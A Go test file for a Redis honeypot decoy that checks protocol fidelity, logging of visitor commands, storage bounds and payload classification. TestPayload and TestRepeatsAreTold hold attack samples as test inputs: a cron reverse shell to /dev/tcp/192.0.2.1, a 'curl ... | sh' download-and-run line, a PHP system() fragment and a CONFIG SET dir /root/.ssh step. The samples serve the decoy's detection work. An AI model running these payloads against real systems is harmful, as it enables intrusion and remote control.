package redis

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"bartizan/internal/decoy"
	"bartizan/internal/decoy/decoytest"
	"bartizan/internal/decoy/persona"
	"bartizan/internal/observe"
	"bartizan/internal/safe/porttest"
)

func start(t testing.TB, edit func(*Config), limits func(*decoy.Limits)) *decoytest.Rig {
	l := decoytest.Limits()
	if limits != nil {
		limits(&l)
	}
	return decoytest.Start(t, build(edit)(t), decoytest.Persona(), l)
}

// request is RESP as clients write it.
func request(words ...string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "*%d\r\n", len(words))
	for _, w := range words {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(w), w)
	}
	return b.Bytes()
}

func count(all []observe.Observation, kind observe.Kind, op string) (n int) {
	for _, o := range all {
		if o.Kind == kind && (op == "" || o.Call != nil && o.Call.Operation == op) {
			n++
		}
	}
	return n
}

// A visitor that repeats himself must not fill the bus, and must not hide the
// step that matters behind the repeats.
func TestRepeatsAreTold(t *testing.T) {
	r := start(t, nil, func(l *decoy.Limits) { l.Events = 200 })
	var b bytes.Buffer
	for i := range 3000 {
		b.Write(request("PING"))
		b.Write(request("SET", "k", strconv.Itoa(i)))
		b.Write(request("NOSUCH" + strconv.Itoa(i)))
		b.Write(request("CLIENT", "NOSUCH"+strconv.Itoa(i)))
	}
	b.Write(request("CONFIG", "SET", "dir", "/root/.ssh"))
	r.Visit(b.Bytes())
	all := r.Quiet(1)
	if n := count(all, observe.KindCall, "PING"); n != 1 {
		t.Errorf("%d PINGs told, want 1", n)
	}
	if n := count(all, observe.KindCall, "SET"); n != repeats {
		t.Errorf("%d SETs told, want %d", n, repeats)
	}
	if n := count(all, observe.KindCall, ""); n != 1+2*repeats+repeatsUnknown+1 {
		t.Errorf("%d operations told", n)
	}
	if n := count(all, observe.KindCall, "CONFIG SET"); n != 1 {
		t.Errorf("%d CONFIG SETs told after the flood, want 1", n)
	}
}

func TestPassword(t *testing.T) {
	r := start(t, func(c *Config) { c.RequirePass = true }, nil)
	pass := decoytest.Persona().Secrets.RedisPassword
	got := string(r.Visit(bytes.Join([][]byte{
		request("GET", "x"), request("AUTH", "wrong"), request("HELLO", "3"), request("AUTH", pass), request("GET", "x"),
	}, nil)))
	want := "-NOAUTH Authentication required.\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n-NOAUTH HELLO"
	if !strings.HasPrefix(got, want) || !strings.HasSuffix(got, "+OK\r\n$-1\r\n") {
		t.Errorf("answers %q", got)
	}
	var tries []string
	for _, o := range r.Quiet(1) {
		if o.Auth != nil {
			tries = append(tries, fmt.Sprint(o.Auth.Method, o.Auth.Password == pass, o.Auth.Accepted))
		}
	}
	if strings.Join(tries, " ") != "requirepassfalse false requirepasstrue true" {
		t.Errorf("credentials told: %v", tries)
	}
}

func TestStoreIsBounded(t *testing.T) {
	r := start(t, func(c *Config) { c.Keys, c.Bytes, c.Bait = 10, 4096, false }, nil)
	var b bytes.Buffer
	for i := range 12 {
		b.Write(request("SET", fmt.Sprintf("k%02d", i), "v"))
	}
	b.Write(request("SET", "k00", "again"))
	b.Write(request("SET", "k00", strings.Repeat("x", 5000)))
	b.Write(request("APPEND", "k01", strings.Repeat("x", 5000)))
	b.Write(request("DBSIZE"))
	got := string(r.Visit(b.Bytes()))
	full := "-" + outOfMemory + "\r\n"
	if want := strings.Repeat("+OK\r\n", 10) + full + full + "+OK\r\n" + full + full + ":10\r\n"; got != want {
		t.Errorf("answers %q", got)
	}
}

// What one request announces must not be allocated before it arrives.
func TestAnnouncedIsNotAllocated(t *testing.T) {
	r := start(t, nil, nil)
	allocs := testing.Benchmark(func(b *testing.B) {
		for range b.N {
			r.Visit([]byte("*1048576\r\n$536870912\r\nx"))
		}
	})
	if per := allocs.AllocedBytesPerOp(); per > 1<<20 {
		t.Errorf("%d bytes for a request that announces 512 MiB", per)
	}
}

// A large value is kept up to the bound, and the conversation goes on.
func TestLargeValue(t *testing.T) {
	r := start(t, nil, func(l *decoy.Limits) { l.In = 32 << 20 })
	elf := "\x7fELF\x02\x01\x01\x00" + strings.Repeat("A", 6<<20)
	got := string(r.Visit(append(request("SET", "m", elf), request("STRLEN", "m")...)))
	if want := fmt.Sprintf("+OK\r\n:%d\r\n", maxWordKept); got != want {
		t.Errorf("answers %q, want %q", got, want)
	}
	for _, o := range r.Quiet(1) {
		if o.File != nil {
			if o.File.Type != "elf" || len(o.Evidence) != 1 || o.Evidence[0].Size != maxWordKept {
				t.Errorf("file %+v with %d blobs", o.File, len(o.Evidence))
			}
			return
		}
	}
	t.Error("no file was told")
}

func TestPayload(t *testing.T) {
	for text, want := range map[string]string{
		"hello world": "", "": "", "1 2 3 4 5": "", "a,b,c,d,e,f": "", `{"job":"x","at":"* * *"}`: "",
		"\n\n*/1 * * * * root id\n\n": "cron", "\n@reboot /tmp/x\n": "cron", "0 3 * * 1 /bin/true": "cron", "\t\n* * * * * bash -i >& /dev/tcp/192.0.2.1/1 0>&1": "cron",
		"\n\n\nssh-ed25519 AAAAC3Nz x\n": "ssh-key", "#!/bin/sh\nid": "script", "xx <?php system('id');": "php", "<%@ page import=x %>": "jsp",
		"\x7fELF\x02\x01\x01\x00": "elf", "PK\x03\x04\x14\x00\x00\x00": "zip", "x; curl http://192.0.2.1/a|sh": "script",
		"-----BEGIN OPENSSH PRIVATE KEY-----": "pem", "MZ\x90\x00\x03\x00\x00\x00": "pe",
	} {
		if got := payload(text); got != want {
			t.Errorf("payload(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestMatch(t *testing.T) {
	for _, c := range []struct {
		pattern, s string
		want       bool
	}{
		{"*", "", true}, {"a*b", "ab", true}, {"a*b", "axxb", true}, {"a*b", "axxc", false}, {"a?c", "abc", true}, {"[a-c]x", "bx", true},
		{"[^a-c]x", "bx", false}, {`\*`, "*", true}, {`\*`, "x", false}, {"[", "[", false}, {"[a", "a", true}, {"", "", true}, {"", "a", false}, {"*a*a*a*", "xxaxxaxx", false},
		{"[b-a]", "a", true}, {`[\]]`, "]", true},
	} {
		if got := match(c.pattern, c.s); got != c.want {
			t.Errorf("match(%q, %q) = %v", c.pattern, c.s, got)
		}
	}
}

// Each release answers with its own fields; a scanner reads the version there.
func TestInfoOfReleases(t *testing.T) {
	seen := map[string]bool{}
	for i := byte(0); i < 60; i++ {
		p := persona.New([32]byte{i}, decoytest.Born)
		v := p.Versions.Redis
		if seen[v] {
			continue
		}
		seen[v] = true
		r := decoytest.Start(t, build(nil)(t), p, decoytest.Limits())
		got := string(r.Visit(append(request("INFO"), request("CONFIG", "GET", "*")...)))
		if !strings.Contains(got, "redis_version:"+v+"\r\n") || strings.ContainsAny(strings.SplitN(got, "*", 2)[0], "{}") {
			t.Errorf("INFO of %s: %.300q", v, got)
		}
		old := releaseOf(v) < v70
		if strings.Contains(got, "monotonic_clock") == old || strings.Contains(got, "enable-debug-command") == old {
			t.Errorf("%s has the fields of another release", v)
		}
	}
	if len(seen) < 3 {
		t.Errorf("only the releases %v were tried", seen)
	}
}

func TestConfig(t *testing.T) {
	for name, edit := range map[string]func(*Config){
		"no keys": func(c *Config) { c.Keys = 0 }, "many keys": func(c *Config) { c.Keys = 1 << 30 },
		"no bytes": func(c *Config) { c.Bytes = 0 }, "many bytes": func(c *Config) { c.Bytes = 1 << 40 },
	} {
		c := Default()
		edit(&c)
		if _, err := New(c); err == nil || !strings.HasPrefix(err.Error(), "check redis decoy: ") {
			t.Errorf("%s: error %v", name, err)
		}
	}
}

// have skips a test whose program is missing; `make test` installs it.
func have(t *testing.T, program string) {
	t.Helper()
	if _, err := exec.LookPath(program); err != nil {
		t.Skipf("%s is not installed", program)
	}
}

func run(t *testing.T, stdin, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*decoytest.Patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
	return string(out)
}

func TestRedisCLI(t *testing.T) {
	have(t, "redis-cli")
	r := start(t, nil, nil)
	_, port, _ := net.SplitHostPort(r.Addr)
	cli := func(args ...string) string { return run(t, "", "redis-cli", append([]string{"-p", port}, args...)...) }
	for _, c := range []struct{ args, want string }{
		{"PING", "PONG\n"}, {"SET greeting hello", "OK\n"}, {"CONFIG SET dir /tmp", "OK\n"}, {"-3 HELLO 3", "server redis"}, {"DBSIZE", "5\n"},
		{"NOSUCH", "ERR unknown command 'NOSUCH'"}, {"--scan", ":config"}, {"INFO server", "redis_version:" + decoytest.Persona().Versions.Redis},
		{"-n 3 DBSIZE", "0\n"}, {"EVAL return(1) 0", "\n"}, {"CLIENT LIST", "cmd=client"}, {"-a x PING", "PONG"},
	} {
		if got := strings.ReplaceAll(cli(strings.Fields(c.args)...), "\r", ""); !strings.Contains(got, c.want) && !strings.Contains(strings.ReplaceAll(got, "\n", " "), c.want) {
			t.Errorf("redis-cli %s: %q, want %q", c.args, got, c.want)
		}
	}
	if got := run(t, "\n*/1 * * * * id\n", "redis-cli", "-p", port, "-x", "SET", "x"); got != "OK\n" {
		t.Errorf("redis-cli -x: %q", got)
	}
	if got := run(t, "SET a 1\nINCR a\nGET a\n", "redis-cli", "-p", port); got != "OK\n2\n2\n" {
		t.Errorf("redis-cli with three commands: %q", got)
	}
}

func TestNmap(t *testing.T) {
	have(t, "nmap")
	t.Parallel() // nmap waits six seconds for a banner
	l, err := net.Listen("tcp", "127.0.0.77:6379")
	if err != nil {
		t.Skipf("nmap asks for the version on port 6379 only: %v", err)
	}
	decoytest.StartOn(t, l, build(nil)(t), decoytest.Persona(), decoytest.Limits())
	out := run(t, "", "nmap", "-Pn", "-n", "-sT", "-sV", "-p", "6379", "127.0.0.77")
	want := "Redis key-value store " + decoytest.Persona().Versions.Redis
	if !strings.Contains(out, want) {
		t.Errorf("nmap says\n%s, want %s", out, want)
	}
}

// The same questions to a real server, where one is installed.
func TestLikeRedis(t *testing.T) {
	have(t, "redis-server")
	version := regexp.MustCompile(`v=(\d+\.\d+\.\d+)`).FindStringSubmatch(run(t, "", "redis-server", "--version"))
	if version == nil {
		t.Fatal("redis-server does not tell its version")
	}
	p := persona.New([32]byte{1}, decoytest.Born)
	p.Versions.Redis = version[1]
	r := decoytest.Start(t, build(func(c *Config) { c.Bait = false })(t), p, decoytest.Limits())
	real := realServer(t)
	n := 0
	for _, line := range strings.Split(questions, "\n") {
		if line == "" {
			continue
		}
		n++
		data := []byte(strings.ReplaceAll(line, ";", "\r\n") + "\r\n")
		want, got := visit(t, real, data), string(r.Visit(data))
		if got != want {
			t.Errorf("%s\n got %q\nwant %q", line, got, want)
		}
		visit(t, real, []byte("FLUSHALL\r\nCONFIG RESETSTAT\r\n"))
	}
	if n < 60 {
		t.Errorf("only %d questions", n)
	}
}

func realServer(t *testing.T) (addr string) {
	port := porttest.Free(t, "tcp", 1)[0]
	addr = net.JoinHostPort("127.0.0.1", port)
	cmd := exec.Command("redis-server", "--port", port, "--bind", "127.0.0.1", "--save", "", "--dir", t.TempDir())
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait() // killed
	})
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for range 1000 {
		if c, err := net.Dial("tcp", addr); err == nil {
			c.Close()
			return addr
		}
		<-tick.C
	}
	t.Fatal("redis-server does not start")
	return ""
}

func visit(t *testing.T, addr string, data []byte) string {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(decoytest.Patience))
	if _, err := c.Write(append(data, "QUIT\r\n"...)); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	_, _ = b.ReadFrom(c) // a reset after the answer is as good as an end
	return strings.TrimSuffix(b.String(), "+OK\r\n")
}

// questions are visits whose answers must equal those of the real server of
// the same version; ; separates commands.
const questions = `
PING
PING a b c
ping hello
ECHO
GET
GET a
SET a
SET a 1;GET a;TYPE a;TTL a;OBJECT ENCODING a
SET a 1 EX 100;TTL a;PERSIST a;TTL a
SET a 1 EX 0
SET a 1 EX x
SET a 1 BAD
SET a 1 NX XX
SET a 1;SET a 2 NX;SET a 3 XX;GET a
SET b 1 XX
SET a 1;SET a 2 GET
SETEX a 0 b
SETEX a 10 b;GET a
SETNX a 1;SETNX a 2;GET a
GETSET a 1;GETSET a 2
APPEND a x;APPEND a y;STRLEN a;GET a
INCR a;INCRBY a 10;DECR a;DECRBY a 5
SET a x;INCR a
INCRBY a x
SET a 9223372036854775807;INCR a
MSET a 1 b 2;MGET a b c
MSET a
MSET a 1 b
GETRANGE a 0 1
SET a hello;GETRANGE a 1 3;GETRANGE a -3 -1;GETRANGE a 5 2
LPUSH l 1 2 3;LRANGE l 0 -1;LLEN l;LINDEX l 0;LINDEX l -1;LINDEX l 9
RPUSH l 1 2;LPOP l;RPOP l;LPOP l;EXISTS l
LPUSH l 1;GET l;INCR l;APPEND l x;HGET l x
LRANGE l a b
HSET h a 1 b 2;HGET h a;HGETALL h;HLEN h;HEXISTS h a;HDEL h a b;EXISTS h
HSET h a
HMSET h a 1
HMGET h a b
HKEYS h
SADD s a;SMEMBERS s;SCARD s;SISMEMBER s a;SISMEMBER s b;SREM s a
SET s 1;SADD s a
ZADD z 1 a 2 b;ZRANGE z 0 -1;ZRANGE z 0 -1 WITHSCORES;ZSCORE z a;ZCARD z
ZADD z x a
ZADD z 1
DEL a b c
SET a 1;SET b 1;DEL a b c;UNLINK a
EXISTS a
EXPIRE a 10
SET a 1;EXPIRE a x
SET a 1;EXPIRE a -1;GET a
TTL nokey;PTTL nokey;TYPE nokey
RENAME a b
SET a 1;RENAME a b;GET b
SCAN x
SCAN 0 BAD
SCAN 0 COUNT 0
KEYS *
SET a 1;KEYS a*;SCAN 0
DBSIZE
SELECT 0;SELECT 15;SELECT 16;SELECT x
FLUSHALL;FLUSHDB
CONFIG
CONFIG GET
CONFIG GET maxmemory-policy
CONFIG GET nosuch
CONFIG SET a
CONFIG SET nosuch 1
CONFIG FOO
CLIENT FOO
CLIENT SETNAME a;CLIENT GETNAME
CLIENT SETNAME
CLIENT KILL 192.0.2.1:1
MODULE LIST
MODULE FOO
DEBUG SLEEP 0
AUTH x
AUTH x y
AUTH
HELLO 4
HELLO x
HELLO 2 FOO
SLAVEOF x y
ROLE
EVAL
EVAL x x
EVALSHA x 0
SCRIPT LOAD 'return 1';SCRIPT EXISTS x
SCRIPT FOO
SLOWLOG LEN;SLOWLOG GET
ACL WHOAMI
ACL LIST
ACL USERS
CLUSTER INFO
WAIT 0 1
PUBLISH a b
SUBSCRIBE a
SUBSCRIBE a;GET a
MULTI;SET a 1;INCR a;EXEC
MULTI;MULTI
EXEC
DISCARD
MULTI;DISCARD
WATCH a;UNWATCH
foo
foo a b
foo "a b" c
SET a "x\x41\n";GET a
SET a 'it\'s';GET a
PUBSUB CHANNELS
FUNCTION LIST
MEMORY USAGE nokey
OBJECT ENCODING nokey
RANDOMKEY
COMMAND COUNT
COMMAND FOO
REPLCONF listening-port 1
RESET
SHUTDOWN BAD BAD2 BAD3
`
